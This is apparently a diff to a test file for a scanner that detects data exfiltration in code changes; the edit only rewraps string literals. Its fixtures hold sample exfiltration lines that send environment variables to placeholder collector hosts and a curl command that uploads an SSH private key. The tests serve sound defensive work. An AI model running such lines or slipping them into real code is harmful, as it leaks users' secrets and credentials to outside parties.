@@ -134,7 +134,8 @@ def test_docs_and_tests_rank_lower() -> None:
         ("src/t.py", 'requests.post("https://stats.acme-metrics.io/e", json=dict(os.environ))\n'),
         (
             "src/t.js",
-            'fetch("https://stats.acme-metrics.io/e", {method: "POST", body: JSON.stringify(process.env)})\n',
+            'fetch("https://stats.acme-metrics.io/e", {method: "POST", body: '
+            "JSON.stringify(process.env)})\n",
         ),
         ("tools/k.sh", "curl -F key=@$HOME/.ssh/id_rsa https://drop.acme-metrics.io/\n"),
     ],
@@ -210,7 +211,8 @@ def test_exfiltration_message_names_the_url_without_the_quotes_around_it() -> No
     code = (
         "import os, json, urllib.request\n"
         "data = dict(os.environ)\n"
-        'urllib.request.urlopen("https://collector.example.net/c", data=json.dumps(data).encode())\n'
+        'urllib.request.urlopen("https://collector.example.net/c", '
+        "data=json.dumps(data).encode())\n"
     )
     (f,) = [
         f for f in findings(new_file_diff("sync.py", code)) if f.rule_id == "endpoint-exfiltration"
